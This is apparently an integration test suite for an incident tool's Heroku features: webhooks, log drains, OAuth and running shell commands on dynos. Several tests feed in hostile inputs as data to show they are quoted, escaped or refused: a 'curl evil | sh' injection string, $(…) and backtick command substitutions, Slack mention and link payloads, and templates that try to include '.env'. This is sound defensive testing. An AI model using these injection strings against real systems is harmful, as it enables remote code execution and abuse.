import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, herokuSettings, postWebhook, signInUi, startTestStack, waitFor, type TestStack } from '../support/stack.js';
import { startApiServer } from '@pulsebridge/api';
import { startFakeHeroku, type FakeHeroku } from '../support/fake-heroku.js';
import { startFakeSlack, type FakeSlack } from '../support/fake-slack.js';
import { createLogger, createRuntime, loadRuleSet, OUTPUT_HEAD_BYTES, OUTPUT_TAIL_BYTES, runJobId } from '@pulsebridge/core';

const TOKEN = 'heroku-api-token-for-tests';
let heroku: FakeHeroku;
let slack: FakeSlack;
let stack: TestStack;

beforeAll(async () => {
  heroku = await startFakeHeroku();
  slack = await startFakeSlack();
  heroku.addToken(TOKEN, { apps: ['shop', 'shop-api', 'billing', 'spare', 'runner'], forbidden: ['locked'] });
  stack = await startTestStack({ config: herokuSettings(heroku, { SLACK_BOT_TOKEN: slack.token, SLACK_API_URL: slack.apiUrl, SLACK_CHANNEL_INTERVAL_MS: '50' }) });
  stack.startWorker();
});
afterAll(async () => {
  await stack?.stop();
  await heroku?.close();
  await slack?.close();
});

const create = (monitoredApps: string[], apiToken: string | null = TOKEN) =>
  stack.call('POST', '/api/v1/integrations/heroku', { body: { name: `account ${randomUUID().slice(0, 6)}`, monitoredApps, ...(apiToken && { apiToken }) } });

describe('managed webhooks', () => {
  it('creating an integration creates a sync webhook on every monitored app; an app the token cannot reach gets a clear error, the others still get theirs', async () => {
    const created = await create(['shop', 'shop-api', 'locked', 'nowhere']);
    expect(created.status).toBe(201);
    const byApp = Object.fromEntries(created.body.managedWebhooks.map((w: { appName: string }) => [w.appName, w]));
    expect(byApp.shop).toMatchObject({ state: 'active', webhookId: expect.any(String), error: null });
    expect(byApp['shop-api']).toMatchObject({ state: 'active' });
    expect(byApp.locked).toMatchObject({ state: 'failed', webhookId: null, error: 'Heroku: You do not have access to the app locked. (forbidden)' });
    expect(byApp.nowhere).toMatchObject({ state: 'failed', error: "Heroku: Couldn't find that app. (not_found)" });

    const [webhook] = heroku.webhooks('shop');
    expect(webhook).toMatchObject({ level: 'sync', url: created.body.webhookUrl, secret: created.body.secret, id: byApp.shop.webhookId });
    expect(webhook!.include.sort()).toEqual(['api:addon', 'api:addon-attachment', 'api:app', 'api:build', 'api:collaborator', 'api:domain', 'api:dyno', 'api:formation', 'api:release', 'api:sni-endpoint', 'api:ssl-endpoint', 'dyno']);
    expect(heroku.calls.filter((c) => c.token !== null).every((c) => c.token === TOKEN)).toBe(true);
    // The REST API shows each webhook's state, never the token.
    const shown = await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`);
    expect(shown.body.managedWebhooks).toHaveLength(4);
    expect(JSON.stringify(shown.body)).not.toContain(TOKEN);
  });

  it('an empty list creates none; changing monitoredApps adds and removes webhooks to match', async () => {
    const created = await create([]);
    expect(created.body.managedWebhooks).toEqual([]);
    const before = heroku.calls.length;
    expect(heroku.calls.slice(before)).toEqual([]);

    const first = await stack.call('PATCH', `/api/v1/integrations/heroku/${created.body.id}`, { body: { monitoredApps: ['billing', 'spare'] } });
    expect(first.body.managedWebhooks.map((w: { appName: string; state: string }) => `${w.appName}:${w.state}`)).toEqual(['billing:active', 'spare:active']);
    const spareWebhook = heroku.webhooks('spare')[0]!;
    const second = await stack.call('PATCH', `/api/v1/integrations/heroku/${created.body.id}`, { body: { monitoredApps: ['billing'] } });
    expect(second.body.managedWebhooks.map((w: { appName: string }) => w.appName)).toEqual(['billing']);
    expect(heroku.webhooks('spare').find((w) => w.id === spareWebhook.id)).toBeUndefined();
    expect(heroku.webhooks('billing').filter((w) => w.url === created.body.webhookUrl)).toHaveLength(1);
  });

  it('rotating the secret updates every managed webhook; deleting the integration deletes them first', async () => {
    const created = await create(['spare']);
    const rotated = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/rotate-secret`);
    expect(heroku.webhooks('spare').find((w) => w.url === created.body.webhookUrl)?.secret).toBe(rotated.body.secret);

    heroku.failNext({ method: 'DELETE', path: /\/webhooks\// }, 4, { status: 503, id: 'unavailable', message: 'Service unavailable' });
    const refused = await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`);
    expect(refused.status).toBe(502);
    expect(refused.body.error.message).toMatch(/could not delete a managed webhook on Heroku \(Service unavailable \(unavailable\)\); the integration is kept/);
    expect((await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`)).status).toBe(200);

    expect((await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`)).status).toBe(204);
    expect(heroku.webhooks('spare').find((w) => w.url === created.body.webhookUrl)).toBeUndefined();
  });

  it('retries 429 after Retry-After and adopts a webhook that already has our URL', async () => {
    heroku.failNext({ method: 'POST', path: /\/webhooks$/ }, 1, { status: 429, id: 'rate_limit', message: 'Your account reached the API rate limit', retryAfter: 1 });
    const started = Date.now();
    const created = await create(['runner']);
    expect(created.body.managedWebhooks[0]).toMatchObject({ appName: 'runner', state: 'active' });
    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
    // Heroku already has this URL (an earlier attempt whose answer was lost): it is adopted, not duplicated.
    await stack.sql("UPDATE managed_webhooks SET state = 'failed', webhook_id = NULL WHERE app_name = 'runner'");
    const synced = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/sync-webhooks`);
    expect(synced.body.managedWebhooks[0]).toMatchObject({ appName: 'runner', state: 'active' });
    expect(heroku.webhooks('runner').filter((w) => w.url === created.body.webhookUrl)).toHaveLength(1);
  });
});

describe('managed log drains', () => {
  it('an integration with a token adds a drain to its drain URL on every monitored app, follows the list, adopts one already there, and removes them with the integration', async () => {
    const created = await create(['shop', 'locked']);
    const urls = Object.fromEntries(created.body.drainUrls.map((d: { appName: string; url: string }) => [d.appName, d.url]));
    expect(created.body.managedDrains).toEqual([
      { appName: 'locked', drainId: null, status: 'failed', error: 'Heroku: You do not have access to the app locked. (forbidden)' },
      { appName: 'shop', drainId: expect.any(String), status: 'active', error: null },
    ]);
    expect(heroku.logDrains('shop').filter((d) => d.url === urls.shop)).toEqual([expect.objectContaining({ id: created.body.managedDrains[1].drainId })]);

    // A new app gets one; an app that leaves the list loses its own (never another's drain).
    const patched = await stack.call('PATCH', `/api/v1/integrations/heroku/${created.body.id}`, { body: { monitoredApps: ['spare'] } });
    expect(patched.body.managedDrains.map((d: { appName: string; status: string }) => `${d.appName}:${d.status}`)).toEqual(['spare:active']);
    expect(heroku.logDrains('shop').filter((d) => d.url === urls.shop)).toEqual([]);
    const spareUrl = patched.body.drainUrls[0].url;
    expect(heroku.logDrains('spare').map((d) => d.url)).toContain(spareUrl);

    // Heroku already has our URL (an earlier attempt whose answer was lost): adopted, not duplicated.
    await stack.sql("UPDATE managed_drains SET state = 'failed', drain_id = NULL WHERE app_name = 'spare'");
    const synced = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/sync-webhooks`);
    expect(synced.body.managedDrains).toMatchObject([{ appName: 'spare', status: 'active', drainId: heroku.logDrains('spare').find((d) => d.url === spareUrl)!.id }]);
    expect(heroku.logDrains('spare').filter((d) => d.url === spareUrl)).toHaveLength(1);

    heroku.failNext({ method: 'DELETE', path: /\/log-drains\// }, 4, { status: 503, id: 'unavailable', message: 'Service unavailable' });
    const refused = await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`);
    expect(refused.status).toBe(502);
    expect(refused.body.error.message).toMatch(/could not delete a managed log drain on Heroku/);
    // The integration is kept as it was: its webhook still there, still working.
    expect(heroku.webhooks('spare').filter((w) => w.url === created.body.webhookUrl)).toHaveLength(1);
    expect((await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`)).body.managedWebhooks).toMatchObject([{ appName: 'spare', state: 'active' }]);
    expect((await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`)).status).toBe(204);
    expect(heroku.logDrains('spare').filter((d) => d.url === spareUrl)).toEqual([]);
  });

  it('rotating the drain URLs replaces every managed drain, and batches to an old URL are refused', async () => {
    const created = await create(['billing']);
    const before = created.body.drainUrls[0].url as string;
    const post = (url: string) => fetch(`${stack.url}${new URL(url).pathname}`, { method: 'POST', headers: { 'content-type': 'application/logplex-1' }, body: '' });
    expect((await post(before)).status).toBe(204);
    const rotated = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/rotate-drain-urls`);
    expect(rotated.status).toBe(200);
    const after = rotated.body.drainUrls[0].url as string;
    expect(after).not.toBe(before);
    expect(rotated.body.managedDrains).toMatchObject([{ appName: 'billing', status: 'active' }]);
    expect(heroku.logDrains('billing').map((d) => d.url)).toContain(after);
    expect(heroku.logDrains('billing').map((d) => d.url)).not.toContain(before);
    expect((await post(before)).status).toBe(404);
    expect((await post(after)).status).toBe(204);
    expect((await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`)).status).toBe(204);
  });

  it('a sync after PUBLIC_URL changed points the managed webhook and drain at the new address', async () => {
    const created = await create(['shop-api']);
    const oldDrain = created.body.drainUrls[0].url as string;
    expect(heroku.webhooks('shop-api').map((w) => w.url)).toContain(created.body.webhookUrl);
    // The same database and Redis, served under a new public address.
    const runtime = createRuntime({ ...stack.config, publicUrl: 'https://pulse.new.example' }, { process: 'api', logger: createLogger({ level: 'silent', service: 'moved' }) });
    const moved = await startApiServer(runtime, { port: 0, host: '127.0.0.1', rules: await loadRuleSet(stack.config.configDir) });
    try {
      const answer = await fetch(`${moved.url}/api/v1/integrations/heroku/${created.body.id}/sync-webhooks`, { method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
      const synced = (await answer.json()) as { webhookUrl: string; drainUrls: { url: string }[]; managedWebhooks: { state: string }[]; managedDrains: { status: string }[] };
      expect(synced.webhookUrl).toMatch(/^https:\/\/pulse\.new\.example\//);
      expect(synced.managedWebhooks).toMatchObject([{ state: 'active' }]);
      expect(synced.managedDrains).toMatchObject([{ status: 'active' }]);
      const ours = (url: string) => url.includes(created.body.id);
      expect(heroku.webhooks('shop-api').map((w) => w.url).filter(ours)).toEqual([synced.webhookUrl]);
      expect(heroku.logDrains('shop-api').map((d) => d.url).filter(ours)).toEqual([synced.drainUrls[0]!.url]);
      expect(heroku.logDrains('shop-api').map((d) => d.url)).not.toContain(oldDrain);
    } finally {
      await moved.close();
      await runtime.close();
    }
    expect((await stack.call('DELETE', `/api/v1/integrations/heroku/${created.body.id}`)).status).toBe(204);
  });

  it('an integration without a token manages none and still gives the drain URLs to add by hand', async () => {
    const created = await create(['shop'], null);
    expect(created.body).toMatchObject({ managedDrains: [], drainUrls: [{ appName: 'shop', url: expect.stringMatching(/\/drains\/heroku\//) }] });
  });
});

describe('Heroku OAuth', () => {
  it('connects, refreshes expired tokens, and shows a clear reason when the refresh token is revoked', async () => {
    heroku.oauth.setAccountApps(['billing']);
    // Shorter than the refresh margin: every use needs a refreshed token.
    heroku.oauth.setAccessTokenTtl(60);
    const created = await create(['billing'], null);
    expect(created.body.connection).toBe('none');

    const start = await fetch(`${stack.url}/api/v1/integrations/heroku/${created.body.id}/oauth/start`, { headers: { authorization: `Bearer ${'test-admin-token-0123456789'}` }, redirect: 'manual' });
    expect(start.status).toBe(302);
    const authorize = new URL(start.headers.get('location')!);
    expect(`${authorize.origin}${authorize.pathname}`).toBe(`${heroku.idUrl}/oauth/authorize`);
    expect(Object.fromEntries(authorize.searchParams)).toMatchObject({ client_id: heroku.oauth.clientId, response_type: 'code', scope: 'write' });

    const approved = await fetch(authorize, { redirect: 'manual' });
    const back = new URL(approved.headers.get('location')!, heroku.idUrl);
    const code = back.searchParams.get('code')!;
    const state = back.searchParams.get('state')!;
    expect(state).toBe(authorize.searchParams.get('state'));

    const forged = await fetch(`${stack.url}/oauth/heroku/callback?code=${code}&state=${state.slice(0, -2)}xx`);
    expect(forged.status).toBe(400);
    const callback = await fetch(`${stack.url}/oauth/heroku/callback?code=${code}&state=${encodeURIComponent(state)}`);
    expect(callback.status).toBe(200);
    const connected = (await callback.json()) as any;
    expect(connected.managedWebhooks).toEqual([expect.objectContaining({ appName: 'billing', state: 'active' })]);
    const [row] = await stack.sql('SELECT oauth_access_token_ciphertext, oauth_refresh_token_ciphertext FROM heroku_integrations WHERE id = $1', [created.body.id]);
    const issued = heroku.oauth.issued();
    expect(row.oauth_refresh_token_ciphertext).not.toContain(issued[0]!.refreshToken);
    // The first access token was about to expire: Heroku was called with a refreshed one.
    expect(issued.length).toBeGreaterThanOrEqual(2);

    heroku.oauth.revoke();
    const after = await stack.call('POST', `/api/v1/integrations/heroku/${created.body.id}/rotate-secret`);
    expect(after.status).toBe(200);
    const shown = await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`);
    expect(shown.body).toMatchObject({ status: 'disconnected', connection: 'oauth' });
    expect(shown.body.statusReason).toMatch(/Heroku refused to refresh the OAuth token .*revoked or has expired\. Connect with Heroku again\./);
  });
});

describe('Run command on Heroku', () => {
  let integration: { id: string; secret: string };
  let incidentId: string;

  beforeAll(async () => {
    integration = (await create(['runner'])).body;
    // An incident whose title carries shell syntax from a payload.
    const event = { id: randomUUID(), resource: 'release', action: 'update', data: { id: randomUUID(), app: { name: 'runner' }, status: 'failed', version: 9, description: 'x"; curl evil | sh; "' }, created_at: new Date().toISOString() };
    expect((await postWebhook(stack, integration.id, JSON.stringify(event), { secret: integration.secret })).status).toBe(202);
    incidentId = await waitFor(async () => (await stack.sql("SELECT id FROM incidents WHERE app_name = 'runner'"))[0]?.id);
  });

  const runIt = async (body: Record<string, unknown>) => {
    const response = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', ...body } });
    expect(response.status, JSON.stringify(response.body)).toBe(202);
    return waitFor(async () => {
      const run = await stack.call('GET', `/api/v1/action-runs/${response.body.runId}`);
      return run.body.status === 'succeeded' || run.body.status === 'failed' ? run.body : undefined;
    }, { what: 'run finished', timeoutMs: 20_000 });
  };

  it('runs the command with values shell-quoted, records output and exit status, caps time to live, posts to the timeline and Slack', async () => {
    const run = await runIt({ command: 'echo {{ incident.title }}; echo on {{ app.name }}', timeToLive: 7200, postToTimeline: true, slackChannels: ['#ops'] });
    expect(run).toMatchObject({ status: 'succeeded', exitStatus: 0, error: null, dynoSize: 'standard-1X', timeToLive: 1800, requestedBy: 'admin (ADMIN_TOKEN)' });
    expect(run.output).toBe(`Release v9 failed on runner: x"; curl evil | sh; "\non runner\n`);
    const dyno = heroku.dynos('runner').at(-1)!;
    expect(dyno).toMatchObject({ attach: true, size: 'standard-1X', time_to_live: 1800, type: 'run' });
    // Values travel in the dyno's environment; the command holds only references to them.
    expect(dyno.command).toBe(`(\necho "\${PB_1}"; echo on "\${PB_2}"\n); echo "\uFFFF heroku-command-exit-status: $?"`);
    expect(dyno.env).toEqual({ PB_1: 'Release v9 failed on runner: x"; curl evil | sh; "', PB_2: 'runner' });
    expect(run.renderedCommand).toBe(`echo "\${PB_1}"; echo on "\${PB_2}"  # PB_1="Release v9 failed on runner: x\\"; curl evil | sh; \\"" PB_2="runner"`);

    const timeline = (await stack.call('GET', `/api/v1/incidents/${incidentId}`)).body.timeline;
    expect(timeline.find((t: { kind: string }) => t.kind === 'action_run').message).toMatch(/^admin \(ADMIN_TOKEN\) ran `echo .*` on runner \(run\.\d+\): succeeded \(exit status 0\)$/);
    const upload = await waitFor(() => slack.uploads().find((u) => u.completed && u.bytes.toString() === run.output));
    expect(upload.channel).toBe('C0OPS0001');
  });

  it('text sent with the Slack upload is mrkdwn-escaped: a hostile incident title or command pings no one and links nowhere', async () => {
    // Everything Slack would act on: a mention of everyone, a user mention, an entity, a disguised link.
    const hostile = '<!channel> <@U123> & <https://evil|x>';
    const event = { id: randomUUID(), resource: 'release', action: 'update', data: { id: randomUUID(), app: { name: 'runner' }, status: 'failed', version: 10, description: hostile }, created_at: new Date().toISOString() };
    expect((await postWebhook(stack, integration.id, JSON.stringify(event), { secret: integration.secret })).status).toBe(202);
    const hostileIncident = await waitFor(async () => (await stack.sql('SELECT id FROM incidents WHERE dedup_key = $1', [`heroku:runner:release:${event.data.id}`]))[0]?.id);
    const response = await stack.call('POST', `/api/v1/incidents/${hostileIncident}/actions/heroku-run`, {
      body: { appName: 'runner', command: `echo {{ incident.title }} # ${hostile}`, slackChannels: ['#ops'] },
    });
    expect(response.status).toBe(202);
    // The file is the output as printed (a file is not mrkdwn); the comment and title are escaped, every `&` an entity.
    const upload = await waitFor(() => slack.uploads().find((u) => u.completed && u.bytes.toString() === `Release v10 failed on runner: ${hostile}\n`), { what: 'the upload' });
    expect(upload.initialComment).toMatch(/^admin \(ADMIN_TOKEN\) ran `echo .*` on runner \(run\.\d+\): succeeded \(exit status 0\)$/s);
    for (const text of [upload.initialComment!, upload.title!]) {
      expect(text).toContain('# &lt;!channel&gt; &lt;@U123&gt; &amp; &lt;https://evil|x&gt;');
      expect(text).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/);
    }
  });

  it('a command printing 40 MB keeps a bounded head and tail, says how many bytes it dropped, and uploads what it kept', async () => {
    // Multi-byte characters, so the cuts fall inside characters too; whole lines, just over 40 MiB.
    const line = 'ünïcødé línè € of output\n';
    const size = Buffer.byteLength(line) * Math.ceil((40 * 1024 * 1024) / Buffer.byteLength(line));
    const response = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, {
      body: { appName: 'runner', command: `echo BEGIN; yes '${line.trim()}' | head -c ${size}; echo THE END`, slackChannels: ['#ops'] },
    });
    expect(response.status).toBe(202);
    const run = await waitFor(async () => {
      const body = (await stack.call('GET', `/api/v1/action-runs/${response.body.runId}`)).body;
      return body.status === 'succeeded' || body.status === 'failed' ? body : undefined;
    }, { what: 'the 40 MB run finished', timeoutMs: 120_000 });
    expect(run).toMatchObject({ status: 'succeeded', exitStatus: 0, error: null, outputTruncated: true });

    const session = heroku.rendezvous.sessions().find((s) => s.command.includes(`head -c ${size}`))!;
    const total = Buffer.byteLength(session.output);
    expect(total).toBeGreaterThan(size);
    const output: string = run.output;
    expect(Buffer.byteLength(output)).toBeLessThanOrEqual(OUTPUT_HEAD_BYTES + OUTPUT_TAIL_BYTES + 200);
    expect(output.startsWith('BEGIN\nünïcødé línè € of output\n')).toBe(true);
    expect(output.endsWith('ünïcødé línè € of output\nTHE END\n')).toBe(true);
    expect(output).not.toContain('\uFFFD');
    const notice = /\n\[pulsebridge: ([\d,]+) bytes of output dropped here; the first 64 KiB and the last 192 KiB are kept\]\n/.exec(output);
    expect(notice).not.toBeNull();
    // Exactly what was not kept, give or take the characters cut at either edge (at most 3 bytes each).
    const dropped = Number(notice![1]!.replace(/,/g, ''));
    expect(dropped).toBeGreaterThanOrEqual(total - OUTPUT_HEAD_BYTES - OUTPUT_TAIL_BYTES);
    expect(dropped).toBeLessThanOrEqual(total - OUTPUT_HEAD_BYTES - OUTPUT_TAIL_BYTES + 6);

    const upload = await waitFor(() => slack.uploads().find((u) => u.completed && u.initialComment?.includes(`head -c ${size}`)), { what: 'the upload' });
    expect(upload.bytes.toString()).toBe(output);
  }, 180_000);

  it('reports a non-zero exit status', async () => {
    const run = await runIt({ command: 'echo about to fail; exit 3' });
    expect(run).toMatchObject({ status: 'failed', exitStatus: 3, output: 'about to fail\n', error: 'the command exited with status 3' });
  });

  it('says plainly when the time to live runs out', async () => {
    const run = await runIt({ command: 'echo started; sleep 30', timeToLive: 1 });
    expect(run.status).toBe('failed');
    expect(run.exitStatus).toBeNull();
    expect(run.output).toBe('started\n');
    expect(run.error).toMatch(/^timed out: the dyno's time to live \(1 s\) ran out/);
  });

  it('reports Heroku refusing the dyno, a refused Rendezvous connection and a TLS failure', async () => {
    heroku.failNext({ method: 'POST', path: /\/dynos$/ }, 1, { status: 403, id: 'forbidden', message: 'You do not have access to the app runner.' });
    expect((await runIt({ command: 'echo hi' })).error).toBe('Heroku refused to start the dyno on runner: You do not have access to the app runner. (forbidden)');

    await heroku.rendezvous.setRefusing(true);
    try {
      expect((await runIt({ command: 'echo hi' })).error).toMatch(/could not connect to the dyno at 127\.0\.0\.1:\d+: connection refused/);
    } finally {
      await heroku.rendezvous.setRefusing(false);
    }

    heroku.rendezvous.setTlsBroken(true);
    try {
      expect((await runIt({ command: 'echo hi' })).error).toMatch(/(TLS handshake with the dyno|connection to the dyno) at 127\.0\.0\.1:\d+ failed/);
    } finally {
      heroku.rendezvous.setTlsBroken(false);
    }
  });

  it('a 409 right after a release is retried; a retried job never starts a second dyno', async () => {
    heroku.failNext({ method: 'POST', path: /\/dynos$/ }, 1, { status: 409, id: 'conflict', message: 'A release is in progress' });
    expect(await runIt({ command: 'echo after conflict' })).toMatchObject({ status: 'succeeded', output: 'after conflict\n' });

    const dynosBefore = heroku.dynos('runner').length;
    const run = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command: 'echo again' } });
    await waitFor(async () => (await stack.call('GET', `/api/v1/action-runs/${run.body.runId}`)).body.status !== 'queued');
    const finished = await waitFor(async () => {
      const body = (await stack.call('GET', `/api/v1/action-runs/${run.body.runId}`)).body;
      return body.status === 'succeeded' ? body : undefined;
    });
    // Replaying the job (as BullMQ does after a crash) leaves the run as it is and starts nothing.
    await stack.sql("UPDATE action_runs SET status = 'running', finished_at = NULL WHERE id = $1", [finished.id]);
    await stack.runtime.queues.heroku.add('heroku.run', { runId: finished.id }, { jobId: `retry-${finished.id}` });
    const retried = await waitFor(async () => {
      const body = (await stack.call('GET', `/api/v1/action-runs/${finished.id}`)).body;
      return body.status === 'failed' ? body : undefined;
    });
    expect(retried.error).toMatch(/pulsebridge stopped while the command was running \(dyno .*\); it was not started again/);
    expect(heroku.dynos('runner')).toHaveLength(dynosBefore + 1);
  });

  it('refuses an app no integration can reach and a broken command template', async () => {
    const noApp = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'unmonitored', command: 'echo hi' } });
    expect(noApp.status).toBe(409);
    const broken = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command: 'echo {{ incident.title | explode }}' } });
    expect(broken.status).toBe(400);
    expect(broken.body.error.message).toMatch(/undefined filter: explode/);
    const badSize = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command: 'echo hi', dynoSize: 'performance-l' } });
    expect(badSize.status).toBe(400);
  });

  it('a hostile incident title reaches the dyno as data wherever the command puts it, and runs nothing', async () => {
    const title = `T $(echo INJECTED) \`echo INJECTED\` x"; echo INJECTED; " y'; echo INJECTED; ' \\ * $HOME`;
    const [before] = await stack.sql('SELECT title FROM incidents WHERE id = $1', [incidentId]);
    await stack.sql('UPDATE incidents SET title = $2 WHERE id = $1', [incidentId, title]);
    try {
      // Bare, in double quotes, in single quotes, inside a word, and as an argument of the app's script.
      const command = `printf '[%s]\\n' {{ incident.title }} "{{ incident.title }}" '{{ incident.title }}' x{{ incident.title }}y`;
      const run = await runIt({ command });
      expect(run).toMatchObject({ status: 'succeeded', exitStatus: 0 });
      expect(run.output).toBe(`[${title}]\n`.repeat(3) + `[x${title}y]\n`);
      const dyno = heroku.dynos('runner').at(-1)!;
      expect(dyno.command).not.toMatch(/INJECTED|HOME|T \$/);
      expect(dyno.env).toEqual({ PB_1: title });
    } finally {
      await stack.sql('UPDATE incidents SET title = $2 WHERE id = $1', [incidentId, before!.title]);
    }
  });

  it('refuses templates that read files, use `raw`, or exceed the limits, naming why', async () => {
    const refused = async (command: string) => {
      const dynos = heroku.dynos('runner').length;
      const response = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, { body: { appName: 'runner', command } });
      expect(response.status, command).toBe(400);
      expect(heroku.dynos('runner')).toHaveLength(dynos);
      return response.body.error.message as string;
    };
    for (const tag of ['include', 'render', 'layout']) {
      const message = await refused(`echo {% ${tag} '.env' %}`);
      expect(message).toContain(`the "${tag}" tag is not allowed`);
      expect(message).not.toMatch(/ADMIN_TOKEN|SECRET_KEY/);
    }
    expect(await refused('echo {{ incident.title | raw }}')).toMatch(/the "raw" filter is not available in commands/);
    // With values, only the shell pulsebridge can read exactly, and nothing that evaluates text.
    expect(await refused('eval echo {{ incident.title }}')).toMatch(/^command is not a valid template: eval \(a builtin that reads its arguments as code.*\) is not allowed in a command with values \(line 1, at "eval echo \{\{…\}\}"\)/);
    expect(await refused('echo `date` {{ incident.title }}')).toMatch(/backticks is not allowed in a command with values/);
    expect(await refused('tar -xf release.tar {{ incident.title }}')).toMatch(/tar \(with values, a command is one of the app's own scripts/);
    expect(await refused('{% for i in (1..30000000) %}{% endfor %}echo done')).toMatch(/exceeds the limits for commands \(memory alloc limit exceeded/);
    expect(await refused("{% assign s = 'xxxxxxxxxx' %}{% for i in (1..30) %}{% assign s = s | append: s %}{% endfor %}echo {{ s }}")).toMatch(/exceeds the limits for commands/);
  });

  it('the incident page refuses a command as the REST API does, with the same reason, and starts nothing', async () => {
    const session = await signInUi(stack);
    const dynos = heroku.dynos('runner').length;
    const post = async (fields: Record<string, string>) => {
      const response = await fetch(`${stack.url}/incidents/${incidentId}/run`, {
        method: 'POST',
        redirect: 'manual',
        headers: { cookie: session.cookie },
        body: new URLSearchParams({ _csrf: session.csrf, appName: 'runner', ...fields }),
      });
      return new URL(response.headers.get('location') ?? '/', stack.url).searchParams.get('notice') ?? '';
    };
    expect(await post({ command: 'eval echo {{ incident.title }}' })).toMatch(/^Command is not a valid template: eval \(a builtin that reads its arguments as code.*\) is not allowed in a command with values/);
    expect(await post({ command: 'echo hi', appName: 'nobody-monitors-this' })).toBe('No integration with a Heroku API token or OAuth connection monitors nobody-monitors-this.');
    expect(heroku.dynos('runner')).toHaveLength(dynos);
  });

  it('a command that exceeds the limits only with the incident’s values fails its run with the reason, and is not retried', async () => {
    const dynos = heroku.dynos('runner').length;
    // Empty when the API checks it; the incident's title doubled twenty times when the worker renders it.
    const response = await stack.call('POST', `/api/v1/incidents/${incidentId}/actions/heroku-run`, {
      body: { appName: 'runner', command: '{% assign s = incident.title %}{% for i in (1..20) %}{% assign s = s | append: s %}{% endfor %}echo {{ s | size }}', postToTimeline: true },
    });
    expect(response.status).toBe(202);
    const run = await waitFor(async () => {
      const body = (await stack.call('GET', `/api/v1/action-runs/${response.body.runId}`)).body;
      return body.status === 'failed' ? body : undefined;
    }, { what: 'the run failed' });
    expect(run.error).toMatch(/^command is not a valid template: it exceeds the limits for commands \(memory alloc limit exceeded/);
    const job = await waitFor(async () => {
      const found = await stack.runtime.queues.heroku.getJob(runJobId(run.id));
      return (await found?.getState()) === 'failed' ? found : undefined;
    }, { what: 'the job failed' });
    expect(job!.attemptsMade).toBe(1);
    expect(job!.failedReason).toBe(run.error);
    expect(heroku.dynos('runner')).toHaveLength(dynos);
    const timeline = (await stack.call('GET', `/api/v1/incidents/${incidentId}`)).body.timeline;
    expect(timeline.find((t: { data: { runId?: string } }) => t.data?.runId === run.id)?.message).toMatch(/: command is not a valid template: it exceeds the limits/);
  });
});

describe('Heroku client', () => {
  it('spaces requests out when RateLimit-Remaining runs low, and turns errors into Heroku’s own message', async () => {
    const { HerokuClient, HerokuApiError } = await import('@pulsebridge/core');
    const client = new HerokuClient({ apiUrl: heroku.apiUrl, tokens: { token: async () => TOKEN }, lowBudget: 20 });
    heroku.setRateLimitRemaining(10);
    try {
      await client.getApp('shop');
      expect(client.rateLimitRemaining).toBe(10);
      const started = Date.now();
      await client.getApp('shop');
      expect(Date.now() - started).toBeGreaterThanOrEqual(950);
    } finally {
      heroku.setRateLimitRemaining(4500);
    }
    const error = await client.getApp('nowhere').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(HerokuApiError);
    expect(error).toMatchObject({ status: 404, id: 'not_found', message: "Couldn't find that app." });
  });
});

describe('Heroku OAuth in a browser', () => {
  it('a person connecting from the UI lands back on the integration page', async () => {
    heroku.oauth.setAccountApps(['spare']);
    heroku.oauth.setAccessTokenTtl(3600);
    const created = await create(['spare'], null);
    const start = await fetch(`${stack.url}/api/v1/integrations/heroku/${created.body.id}/oauth/start`, { headers: { authorization: 'Bearer test-admin-token-0123456789' }, redirect: 'manual' });
    const approved = await fetch(start.headers.get('location')!, { redirect: 'manual' });
    const back = new URL(approved.headers.get('location')!, heroku.idUrl);
    const callback = await fetch(`${stack.url}/oauth/heroku/callback?${back.searchParams}`, { headers: { accept: 'text/html' }, redirect: 'manual' });
    expect(callback.status).toBe(303);
    expect(callback.headers.get('location')).toBe(`/integrations/${created.body.id}?notice=${encodeURIComponent('Connected with Heroku; managed webhooks synced.')}`);
    expect((await stack.call('GET', `/api/v1/integrations/heroku/${created.body.id}`)).body).toMatchObject({ connection: 'oauth', managedWebhooks: [expect.objectContaining({ appName: 'spare', state: 'active' })] });
  });
});
